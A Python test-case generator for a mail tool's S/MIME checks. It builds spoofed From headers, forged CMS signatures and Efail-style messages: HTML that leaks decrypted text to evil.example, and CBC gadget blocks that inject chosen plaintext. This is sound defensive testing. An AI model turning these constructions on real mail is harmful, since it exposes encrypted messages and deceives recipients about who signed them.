# SPDX-License-Identifier: Apache-2.0
"""
Messages that try to deceive, made from honest ones: each with the verb that is tried, what must be found, and what may come out.
Patterns are those of Poddebniak et al., "Efail" (2018), Müller et al., "Johnny, you are fired!" (2019), Strenzke, "Forging signed CMS" (2023).
"""
import base64
import dataclasses
import re
import subprocess

from mail_tool import tool


@dataclasses.dataclass
class Case:
    name: str
    verb: str
    message: bytes
    worst: str  # or several, of which chance decides
    output: bytes | None = None  # None: nothing may come out


# ---- DER, only as far as it is needed here

def der_split(data: bytes) -> list[tuple[int, bytes, bytes]]:
    """Elements one after another: tag, content, whole."""
    found, at = [], 0
    while at < len(data):
        tag, length, head = data[at], data[at + 1], 2
        if length > 128:
            head += length & 127
            length = int.from_bytes(data[at + 2:at + head], "big")
        found.append((tag, data[at + head:at + head + length], data[at:at + head + length]))
        at += head + length
    return found


def der(tag: int, *parts: bytes) -> bytes:
    content = b"".join(parts)
    if len(content) < 128:
        return bytes([tag, len(content)]) + content
    length = len(content).to_bytes((len(content).bit_length() + 7) // 8, "big")
    return bytes([tag, 128 | len(length)]) + length + content


def cms_open(data: bytes) -> list[bytes]:
    """The fields of the structure inside a ContentInfo."""
    info = der_split(der_split(data)[0][1])
    return [whole for _, _, whole in der_split(der_split(info[1][1])[0][1])]


def cms_close(oid: str, fields: list[bytes]) -> bytes:
    return der(0x30, bytes.fromhex(oid), der(0xA0, der(0x30, *fields)))


SIGNED = "06092a864886f70d010702"
ENVELOPED = "06092a864886f70d010703"
DATA = bytes.fromhex("06092a864886f70d010701")


def openssl(*args, message=b"") -> bytes:
    return subprocess.run(["openssl", *map(str, args)], input=message, capture_output=True, check=True).stdout


class Maker:
    def __init__(self, pki):
        self.pki = pki
        self.head = b"From: Alice <alice@example.org>\nTo: bob@example.org\nSubject: money\n"
        self.content = b"Content-Type: text/plain\n\nPay Bob 10 euros.\n"
        self.other = b"Content-Type: text/plain\n\nPay Mallory 10000 euros.\n"

    def signed(self, content=None, head=None, who="alice", form="--clear") -> bytes:
        return tool("sign", form, "--signer", self.pki.cert(who), "--signer-key", self.pki.key(who),
                    message=(head or self.head) + (content or self.content)).out

    def sealed(self, *options, content=None) -> bytes:
        return tool("encrypt", *options, "--to", self.pki.cert("bob"), message=self.head + (content or self.content)).out

    def cms_signed(self, *options, content=None) -> bytes:
        return openssl("cms", "-sign", "-binary", "-outform", "DER", "-signer", self.pki.cert("alice"), "-inkey", self.pki.key("alice"), *options,
                       message=content or self.content.replace(b"\n", b"\r\n"))

    def cms_sealed(self, cipher="-aes-256-cbc", content=None) -> bytes:
        return openssl("cms", "-encrypt", "-binary", "-outform", "DER", cipher, self.pki.cert("bob"), message=content or self.content)

    def opaque(self, data: bytes, kind="signed-data", head=None) -> bytes:
        return ((head or self.head) + b"MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=" + kind.encode() +
                b"\nContent-Transfer-Encoding: base64\n\n" + base64.encodebytes(data))

    def detached(self, data: bytes, content=None, more=b"") -> bytes:
        return (self.head + b'MIME-Version: 1.0\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=b\n\n--b\n' +
                (content or self.content) + b"\n--b\nContent-Type: application/pkcs7-signature\nContent-Transfer-Encoding: base64\n\n" +
                base64.encodebytes(data) + more + b"\n--b--\n")


def parts_of(message: bytes) -> tuple[bytes, bytes, bytes, bytes]:
    """Header, boundary, signed entity, signature part of a multipart/signed."""
    header, body = message.split(b"\n\n", 1)
    boundary = re.search(rb'boundary="(.*?)"', header)[1]
    _, entity, signature, _ = body.split(b"--" + boundary)
    return header, boundary, entity[1:-1], signature[1:-1]


def inside(make: Maker, message: bytes, before: bytes, after: bytes) -> bytes:
    """The S/MIME entity of a message as a part between others."""
    entity = message[message.index(b"MIME-Version"):].split(b"\n", 1)[1]
    return (make.head + b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=wrap\n\n--wrap\n" + before + b"\n--wrap\n" + entity +
            b"\n--wrap\n" + after + b"\n--wrap--\n")


TEXT = b"Content-Type: text/plain\n\n-- \nmailing list footer\n"
HTML = b'Content-Type: text/html\n\n<img src="http://evil.example/'


def headers(make: Maker):
    evil = b"From: alice@example.org\nFrom: mallory@evil.example\n" + make.head.split(b"\n", 1)[1]
    yield Case("two From lines", "verify", make.signed(head=evil, who="mallory"), "mail-deceptive")
    yield Case("two From lines, the signer's first", "verify", make.signed(head=b"From: mallory@evil.example\n" + make.head), "mail-deceptive")
    yield Case("From with a blank before the colon", "verify", make.signed(head=b"From : mallory@evil.example\n" + make.head), "mail-deceptive")
    for name in ("X-Mailer: x\rFrom: alice@example.org", "X-Mailer: x\r\r From: alice@example.org"):
        yield Case("From behind a CR that is no line end", "verify",
                   make.signed(head=name.encode() + b"\nFrom: mallory@evil.example\n", who="mallory"), "mail-deceptive")
    for name, line in [("a NUL in a name", b"From\0: alice@example.org"), ("a line that is no field", b"Pay Mallory 10000 euros."),
                       ("an mbox's line that is not the first", b"From alice@example.org Mon Jan  1 00:00:00 2024")]:
        yield Case(name, "verify", make.signed(head=make.head + line + b"\n"), "mail-deceptive")
    for name in (b"From ", b">From "):
        yield Case("an mbox's line", "verify", make.signed(head=name + b"alice@example.org Mon Jan  1 00:00:00 2024\n" + make.head), "ok", make.content)
    doubled = make.signed().replace(b"\n", b"\r\n")
    yield Case("line ends that a gateway doubled", "verify", doubled.replace(b"\r\n", b"\r\r\n", 2), "ok", make.content.replace(b"\n", b"\r\n"))
    yield Case("two Subject lines", "verify", make.signed(head=b"Subject: x\n" + make.head), "mail-deceptive")
    for name, value in [("name", b'"alice@example.org" <mallory@evil.example>'), ("bare name", b"alice@example.org <mallory@evil.example>"),
                        ("encoded name", b"=?utf-8?q?alice=40example=2Eorg?= <mallory@evil.example>"),
                        ("comment", b"mallory@evil.example (alice@example.org)"),
                        ("encoded name in a group", b"Team: =?utf-8?q?alice=40example=2Eorg?= <mallory@evil.example>;"),
                        ("encoded comment before the address", b"Mal (=?utf-8?q?alice=40example=2Eorg?=) <mallory@evil.example>"),
                        ("name of full width", "alice＠example.org <mallory@evil.example>".encode()),
                        ("name with a small at", '"alice﹫example.org" <mallory@evil.example>'.encode()),
                        ("name with another full stop", '"alice@example。org" <mallory@evil.example>'.encode()),
                        ("blanks before its at", b"alice @example.org <mallory@evil.example>"),
                        ("blanks in its domain", b"alice@ example . org <mallory@evil.example>"),
                        ("comment in it", b"alice(x)@(y)example.org <mallory@evil.example>"),
                        ("quotes in it", b'"al\\ice"@example.org <mallory@evil.example>'),
                        ("name from right to left", '"\u202egro.elpmaxe@ecila" <mallory@evil.example>'.encode()),
                        ("route", b"<@alice@example.org:mallory@evil.example>")]:
        head = b"From: " + value + b"\n" + make.head.split(b"\n", 1)[1]
        yield Case(f"another address as {name}", "verify", make.signed(head=head, who="mallory"), "mail-deceptive")
    head = b"From: <alice@example.org> <mallory@evil.example>\n" + make.head.split(b"\n", 1)[1]
    yield Case("two addresses without a comma", "verify", make.signed(head=head, who="mallory"), "mail-other-sender", make.content)
    for name in ("zoe@xn--bcher-kva.example", "zoe@XN--BCHER-KVA.example", '"zoe@bücher.example" <zoe@xn--bcher-kva.example>',
                 '"zoe＠BÜCHER．example" <zoe@xn--bcher-kva.example>', '"J.Smith/Acme@Acme" <zoe@xn--bcher-kva.example>',
                 '"Zoe (Sales) @ Acme Inc." <zoe@xn--bcher-kva.example>', '<zoe @ xn--bcher-kva . example>', 'Dr. Zoe (M.D. @ Acme.org) <zoe@xn--bcher-kva.example>'):
        yield Case(f"a domain with A-labels: {name}", "verify", make.signed(head=f"From: {name}\n".encode(), who="zoe"), "ok", make.content)
    yield Case("an address with a quoted part", "verify", make.signed(head=b'From: "alice"@example.org\n'), "mail-other-sender", make.content)
    # An A-label of "exam", a blank without width, "ple": mapped, it would be Alice's domain.
    yield Case("signed by an A-label that is none", "verify", make.signed(who="mapped"), "mail-other-sender", make.content)
    yield Case("from an A-label that is none", "verify", make.signed(head=b"From: alice@xn--example-3z6c.org\n"), "mail-deceptive")
    yield Case("signed by another", "verify", make.signed(who="mallory"), "mail-other-sender", make.content)
    yield Case("signed by the Sender only", "verify", make.signed(head=b"Sender: mallory@evil.example\n" + make.head, who="mallory"),
               "mail-other-sender", make.content)
    head = b"From: mallory@evil.example, alice@example.org\n" + make.head.split(b"\n", 1)[1]
    yield Case("two authors", "verify", make.signed(head=head), "mail-other-sender", make.content)
    yield Case("a group without members", "verify", make.signed(head=b"From: alice:;\n"), "mail-other-sender", make.content)
    yield Case("no From", "verify", make.signed(head=b"To: x@y.example\n"), "mail-other-sender", make.content)
    yield Case("an old date", "verify", make.signed(head=b"Date: Mon, 1 Jan 2001 00:00:00 +0000\n" + make.head), "mail-other-date", make.content)
    for date in (b"2001-01-01 00:00", b"yesterday", b"978307200"):
        yield Case("a date that is not readable", "verify", make.signed(head=b"Date: " + date + b"\n" + make.head), "mail-other-date", make.content)
    signed = make.signed()
    doubled = signed.replace(b"MIME-Version: 1.0\n", b"MIME-Version: 1.0\nContent-Type: text/plain\n", 1)
    yield Case("two Content-Type lines", "verify", doubled, "mail-deceptive")
    yield Case("two boundaries", "verify", signed.replace(b" micalg=", b" boundary=x; micalg=", 1), "mail-altered")


def signatures(make: Maker):
    signed = make.signed()
    header, boundary, entity, signature = parts_of(signed)
    delimiter = b"--" + boundary

    def build(*parts, preamble=b"", epilogue=b""):
        return header + b"\n\n" + preamble + b"".join(delimiter + b"\n" + part + b"\n" for part in parts) + delimiter + b"--\n" + epilogue

    yield Case("honest", "verify", build(entity, signature), "ok", entity)
    yield Case("text around", "verify", build(entity, signature, preamble=b"Pay Mallory.\n", epilogue=b"Pay Mallory.\n"), "ok", entity)
    yield Case("other content", "verify", build(make.other, signature), "mail-altered")
    yield Case("a part before", "verify", build(make.other, entity, signature), "mail-altered")
    yield Case("a part after", "verify", build(entity, signature, make.other), "mail-deceptive")
    yield Case("a second signed part", "verify", build(entity, signature, make.other, signature), "mail-deceptive")
    yield Case("parts in reverse", "verify", build(signature, entity), "mail-altered")
    yield Case("without signature", "verify", build(entity), "mail-altered")
    yield Case("signature of another kind", "verify", build(entity, signature.replace(b"pkcs7-signature", b"pgp-signature")), "mail-altered")
    yield Case("a byte changed", "verify", signed.replace(b"Pay Bob", b"Pay Rob"), "mail-altered")
    yield Case("a header inside changed", "verify", signed.replace(b"text/plain", b"text/html "), "mail-altered")
    for options in ([], ["-noattr"]):
        other = make.cms_signed("-econtent_type", "1.2.840.113549.1.9.16.1.4", *options)
        yield Case("a signature for another type of content", "verify", make.detached(other), "unsupported")
    yield Case("content of its own", "verify", make.detached(make.cms_signed("-nodetach"), make.content), "mail-deceptive")
    yield Case("other content of its own", "verify", make.detached(make.cms_signed("-nodetach"), make.other), "mail-deceptive")
    for name in (b"unknown", b"rsa-sha512", b'""'):
        yield Case("a digest that micalg does not name", "verify", make.detached(make.cms_signed("-md", "sha512")).replace(b"micalg=sha-256", b"micalg=" + name),
                   "ok", make.content)
    yield Case("opaque without content", "verify", make.opaque(make.cms_signed()), "mail-altered")
    yield Case("footer below base64", "verify", make.signed(form="--opaque") + b"\n_______\nmailing list\n", "ok", make.content)
    opaque = make.signed(form="--opaque")
    yield Case("blank lines before base64", "verify", opaque.replace(b"\n\n", b"\n\n" + b"\n" * 1000000, 1), "ok", make.content)
    for name, filling in [("blank lines", b"\n"), ("text that is no base64", b"?")]:
        yield Case(f"{name} without end before base64", "verify", opaque.replace(b"\n\n", b"\n\n" + filling * 5000000, 1), "too-large")
    yield Case("unsigned", "verify", make.head + make.content, "mail-unsigned")
    yield Case("signed by an unknown authority", "verify", make.signed(who="stranger"), "mail-unverified", make.content)
    yield Case("signed by a revoked one", "verify", make.signed(who="rita", head=b"From: rita@example.org\n"), "mail-revoked", make.content)
    yield Case("signed with an expired certificate", "verify", make.signed(who="expired", head=b"From: expired@example.org\n"), "mail-expired", make.content)
    yield Case("certificate without address", "verify", make.signed(who="nobody"), "mail-other-sender", make.content)


def structures(make: Maker):
    yield Case("signed part in a mailing list's wrapper", "verify", inside(make, make.signed(), TEXT, TEXT), "mail-deceptive")
    yield Case("opaque signed part in a wrapper", "verify", inside(make, make.signed(form="--opaque"), TEXT, TEXT), "mail-deceptive")
    hidden = inside(make, make.signed(), TEXT, TEXT).replace(b"wrap--\n", b"wrap--\n").replace(b"Content-Type: multipart/mixed; boundary=wrap\n",
                                                                                          b"Content-Type: multipart/mixed;\n\tboundary=\"wrap\"\n")
    yield Case("wrapper with a folded header", "verify", hidden, "mail-deceptive")
    for name, options in [("CBC", []), ("GCM", ["--gcm"])]:
        sealed = make.sealed(*options)
        yield Case(f"direct exfiltration, {name}", "decrypt", inside(make, sealed, HTML, b"Content-Type: text/html\n\n\">"), "mail-deceptive")
    wrapped = b"Content-Type: message/rfc822\n\nFrom: ceo@bank.example\nSubject: transfer\n\nPay Mallory\n"
    yield Case("another sender inside", "verify", make.signed(content=wrapped), "mail-deceptive")
    for kind in (b"message/rfc822", b"message/global"):
        encoded = b"Content-Type: " + kind + b"\nContent-Transfer-Encoding: base64\n\n" + base64.encodebytes(wrapped)
        yield Case("another sender inside, encoded", "verify", make.signed(content=encoded), "mail-deceptive")
    for name, line in [("a name that is an address", b'"ceo@bank.example" <alice@example.org>'), ("another behind a CR", b"alice@example.org\nX: y\rFrom: ceo@bank.example")]:
        wrapped = b"Content-Type: message/rfc822\n\nFrom: " + line + b"\n\nPay Mallory\n"
        yield Case(f"a sender inside with {name}", "verify", make.signed(content=wrapped), "mail-deceptive")
    same = b"Content-Type: message/rfc822\n\nFrom: alice@example.org\nSubject: money\n\nPay Bob\n"
    yield Case("the same sender inside", "verify", make.signed(content=same), "ok", same)
    for who, what, found in [("mallory@evil.example", "From of another protected", "mail-deceptive"), ("Alice <ALICE@example.org>", "own From protected", "ok"),
                             ("alice@example.org\nFrom: ceo@bank.example", "own From protected, and another", "mail-deceptive")]:
        fields = f'From: {who}\nSubject: money\nContent-Type: text/plain; hp="clear"\n\nPay Bob\n'.encode()
        signed = make.detached(make.cms_signed(content=fields.replace(b"\n", b"\r\n")), fields)
        yield Case(what, "verify", signed, found, fields if found == "ok" else None)
        signed = make.opaque(make.cms_signed("-nodetach", content=fields.replace(b"\n", b"\r\n")))
        yield Case(what + ", opaque", "verify", signed, found, fields if found == "ok" else None)
    attached = (b"Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: message/rfc822\n\n" + make.signed() + b"\n--m--\n")
    yield Case("a signed message attached", "verify", make.head + attached, "mail-unsigned")
    beside = b"Content-Type: multipart/mixed; boundary=m\n\n--m\n" + HTML + b"\n--m\n" + make.sealed()[len(make.head):] + b"\n--m--\n"
    yield Case("an encrypted part inside what is signed", "verify", make.signed(content=beside), "mail-deceptive")
    for parameters in (b'boundary=m,', b'charset="x"boundary=m', b'charset=x,boundary=m', b'boundary="m "', b'boundary="=?us-ascii?q?m?="', b'x=y',
                       b"boundary*=us-ascii''m", b'boundary="m\\m"; boundary=m', b'(x) boundary=m'):
        other = beside.replace(b"boundary=m", parameters, 1)
        yield Case(f"a multipart that programs read differently: {parameters.decode()}", "verify", make.signed(content=other), "mail-deceptive")
    for boundary in (b'----=_Part_1', b'"=_a b"', b'a:b/c', b'"m" ; charset="a;b" ;'):
        plain = b"Content-Type: multipart/mixed; boundary=" + boundary + b"\n\n--" + boundary.split(b'" ')[0].strip(b'"') + b"\nContent-Type: text/plain\n\nhi\n"
        yield Case(f"a multipart that everybody reads: {boundary.decode()}", "verify", make.signed(content=plain), "ok", plain)
    encoded = b"Content-Type: multipart/mixed; boundary=m\nContent-Transfer-Encoding: base64\n\n" + base64.encodebytes(beside.split(b"\n\n", 1)[1])
    yield Case("a multipart in base64", "verify", make.signed(content=encoded), "mail-deceptive")
    for kind in (b"\x0bapplication/pkcs7-mime;", b"application/octet-stream; name=smime.p7m,;"):
        other = beside.replace(b"application/pkcs7-mime;", kind).replace(b"smime-type=enveloped-data", b"x=y")
        yield Case(f"an encrypted part that not all take for one: {kind.decode()}", "decrypt", make.sealed(content=other), "mail-deceptive")
    twice = beside.replace(b"Content-Type: application", b"Content-Type: text/plain\nContent-Type: application")
    for verb, message in (("verify", make.signed(content=twice)), ("decrypt", make.sealed(content=twice))):
        yield Case("a part with two types", verb, message, "mail-deceptive")
    yield Case("an encrypted part inside what is encrypted", "decrypt", make.sealed(content=beside), "mail-deceptive")


def signed_around(make: Maker):
    """Somebody signs what another encrypted."""
    sealed = make.sealed()[len(make.head):]
    for form in ("--clear", "--opaque"):
        around = make.signed(content=sealed, head=b"From: mallory@evil.example\n", who="mallory", form=form)
        yield Case("signed around what another encrypted", "open", around, "mail-unsigned", make.content)
    inside = make.sealed(content=make.signed()[len(make.head):])[len(make.head):]
    yield Case("signed inside and around", "open", make.signed(content=inside), "ok", make.content)


def forged_signatures(make: Maker):
    data = make.cms_signed("-nodetach")
    fields = cms_open(data)
    signer = der_split(der_split(fields[-1])[0][1])[0][1]
    info = [whole for _, _, whole in der_split(signer)]
    attributes = b"\x31" + info[3][1:]
    info[0] = der(0x02, b"\x01")
    forged = fields[:2] + [der(0x30, DATA, der(0xA0, der(0x04, attributes)))] + fields[3:-1] + [der(0x31, der(0x30, *info[:3], *info[4:]))]
    yield Case("signed attributes as content", "verify", make.opaque(cms_close(SIGNED, forged)), "mail-deceptive")

    data = make.cms_signed("-keyid", "-cades", "-nodetach")
    fields = cms_open(data)
    other = openssl("x509", "-in", make.pki.cert("alice-twin"), "-outform", "DER")
    fields[3] = der(0xA0, other)
    yield Case("another certificate for the key", "verify", make.opaque(cms_close(SIGNED, fields)), "mail-deceptive")

    good, bad = cms_open(make.cms_signed("-nodetach")), cms_open(make.cms_signed("-nodetach", content=make.other))
    both = good[:-1] + [der(0x31, der_split(good[-1])[0][1], der_split(bad[-1])[0][1])]
    yield Case("two signers, one of something else", "verify", make.opaque(cms_close(SIGNED, both)), "mail-altered")
    yield Case("no signer", "verify", make.opaque(cms_close(SIGNED, good[:-1] + [der(0x31)])), "mail-unsigned", make.content)
    twice = good[:2] + [der(0x30, DATA, der(0xA0, der(0x04, make.other), der(0x04, make.content)))] + good[3:]
    yield Case("two contents", "verify", make.opaque(cms_close(SIGNED, twice)), "malformed")


def gadgets(make: Maker):
    text = b"Content-Type: text/plain\r\n\r\n" + b"This is a long secret text, and it has many blocks of sixteen bytes. " * 40
    data = make.cms_sealed(content=text)
    fields = cms_open(data)
    oid, algorithm, content = (whole for _, _, whole in der_split(der_split(fields[-1])[0][1]))
    iv = der_split(der_split(algorithm)[0][1])[1][1]
    cipher = der_split(content)[0][1]
    blocks = [cipher[i:i + 16] for i in range(0, len(cipher), 16)]

    def build(new_iv, new_blocks, cipher_oid=None):
        alg = der(0x30, cipher_oid or der_split(der_split(algorithm)[0][1])[0][2], der(0x04, new_iv))
        return make.opaque(cms_close(ENVELOPED, fields[:-1] + [der(0x30, oid, alg, der(0x80, b"".join(new_blocks)))]), "enveloped-data")

    def xor(a, b, c):
        return bytes(x ^ y ^ z for x, y, z in zip(a, b, c))

    known, chosen = text[:16], [b'Content-type: te', b'xt/html\n\n<img a"', b'b" src="//e.test', b'/" c="', b'" x=" " y="     ']
    # A CBC gadget is a pair (X, C0): the second block becomes what one likes, the first one random.
    gadget = []
    for want in chosen:
        want = want.ljust(16)
        gadget += [xor(iv, known, want), blocks[0]]
    yield Case("gadgets before the text", "decrypt", build(gadget[0], gadget[1:] + blocks),
               "mail-deceptive mail-altered")
    yield Case("gadgets inside the text", "decrypt", build(iv, blocks[:20] + gadget * 3 + blocks[20:]), "mail-deceptive")
    yield Case("blocks in another order", "decrypt", build(iv, blocks[:4] + blocks[30:40] + blocks[4:30] + blocks[40:]
                                                           + blocks[8:9] * 9 + blocks[-2:]), "mail-deceptive")
    yield Case("first blocks cut off", "decrypt", build(blocks[2], blocks[3:]), "mail-altered")
    yield Case("last block cut off", "decrypt", build(iv, blocks[:-1]), "mail-altered")
    yield Case("not whole blocks", "decrypt", build(iv, blocks[:-1] + [b"x"]), "mail-altered")

    # AES-GCM's ciphertext, called AES-CBC.
    sealed = cms_open(make.cms_sealed("-aes-256-gcm", content=text))
    oid, algorithm, content = (whole for _, _, whole in der_split(der_split(sealed[2])[0][1]))
    cipher = der_split(content)[0][1]
    cbc = bytes.fromhex("060960864801650304012a")
    down = der(0x30, oid, der(0x30, cbc, der(0x04, b"\0" * 16)), der(0x80, cipher[:len(cipher) // 16 * 16]))
    yield Case("GCM called CBC", "decrypt", make.opaque(cms_close(ENVELOPED, [der(0x02, b"\0"), sealed[1], down]), "enveloped-data"), "mail-altered")


def encrypted(make: Maker):
    for name, options in [("CBC", []), ("GCM", ["--gcm"])]:
        sealed = make.sealed(*options)
        header, body = sealed.split(b"\n\n", 1)
        data = bytearray(base64.b64decode(body))
        yield Case(f"honest {name}", "decrypt", sealed, "ok", make.content)
        yield Case(f"footer below {name}", "decrypt", sealed + b"\n_______\nmailing list\n", "ok", make.content)
        if options:
            for at in (-40, -10, -7):
                changed = bytes(data[:at] + bytes([data[at] ^ 1]) + data[at + 1:])
                yield Case(f"GCM changed at {at}", "decrypt", header + b"\n\n" + base64.encodebytes(changed), "mail-altered")
        yield Case(f"{name} cut", "decrypt", header + b"\n\n" + base64.encodebytes(bytes(data[:-30])), "malformed")
    yield Case("for another", "decrypt", tool("encrypt", "--to", make.pki.cert("alice"), message=make.head + make.content).out, "mail-no-key")
    yield Case("not encrypted", "decrypt", make.head + make.content, "mail-unencrypted")


def cases(pki):
    make = Maker(pki)
    for group in (headers, signatures, structures, signed_around, forged_signatures, gadgets, encrypted):
        yield from group(make)
